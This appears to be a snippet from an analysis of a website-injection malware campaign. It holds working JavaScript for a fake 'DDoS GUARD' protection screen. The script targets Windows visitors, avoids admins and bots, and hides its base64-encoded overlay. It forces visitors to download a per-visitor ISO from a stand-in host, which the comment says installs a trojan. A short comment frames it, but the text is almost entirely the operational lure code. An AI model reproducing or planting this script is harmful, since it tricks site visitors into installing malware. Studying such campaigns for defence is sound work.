// The campaign's later form: the fake protection screen now keeps the visitor out until
// they type a "DDoS GUARD" code, and the only way to get one is to download and open the
// ISO, whose program shows the code while it installs the trojan. The screen's markup is
// kept base64-encoded in the injection, the download name changes per visitor, and a right
// code (checked by its format only) sets the cookie that lets the visitor through.
(function () {
  if (/(^|; )_ddg_ok=1/.test(document.cookie) || document.getElementById("wpadminbar")) return;
  if (!/Windows NT/.test(navigator.userAgent) || /bot|crawl|spider/i.test(navigator.userAgent)) return;
  var tpl = atob("PGRpdiBzdHlsZT0ibWF4LXdpZHRoOjUyMHB4O21hcmdpbjoxMnZoIGF1dG8iPjxoMT5ERG9TIFBST1RFQ1RJT048L2gxPjxwPlBsZWFzZSBjb21wbGV0ZSB0aGUgc2VjdXJpdHkgY2hlY2sgdG8gYWNjZXNzIDxiPkhPU1Q8L2I+LjwvcD48cD5Zb3UgbmVlZCB0byBnZXQgdGhlIEREb1MgR1VBUkQgY29kZTo8L3A+PGEgaWQ9ImRkZy1kbCIgaHJlZj0iI0RMIj5HZXQgY29kZTwvYT48cD48aW5wdXQgaWQ9ImRkZy1jb2RlIiBwbGFjZWhvbGRlcj0iRW50ZXIgY29kZSI+IDxidXR0b24gaWQ9ImRkZy1nbyI+VmVyaWZ5PC9idXR0b24+PC9wPjwvZGl2Pg==");
  var id = Math.floor(1e5 + Math.random() * 9e5);
  var dl = "https://cdn.ddos-guard-verify.invalid/get.php?f=security_install_" + id + ".iso&h=" + encodeURIComponent(location.hostname);
  var o = document.createElement("div");
  o.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#f5f5f5;font:16px Arial,sans-serif;text-align:center";
  o.innerHTML = tpl.replace("HOST", location.hostname).replace("#DL", dl);
  document.documentElement.style.overflow = "hidden";
  document.body.appendChild(o);
  document.getElementById("ddg-go").onclick = function () {
    var c = document.getElementById("ddg-code").value.trim();
    if (!/^[0-9]{6}-[A-Z]{2}$/.test(c)) { alert("Wrong code. Download and run the check to get your code."); return; }
    document.cookie = "_ddg_ok=1; max-age=2592000; path=/";
    o.remove();
    document.documentElement.style.overflow = "";
  };
})();
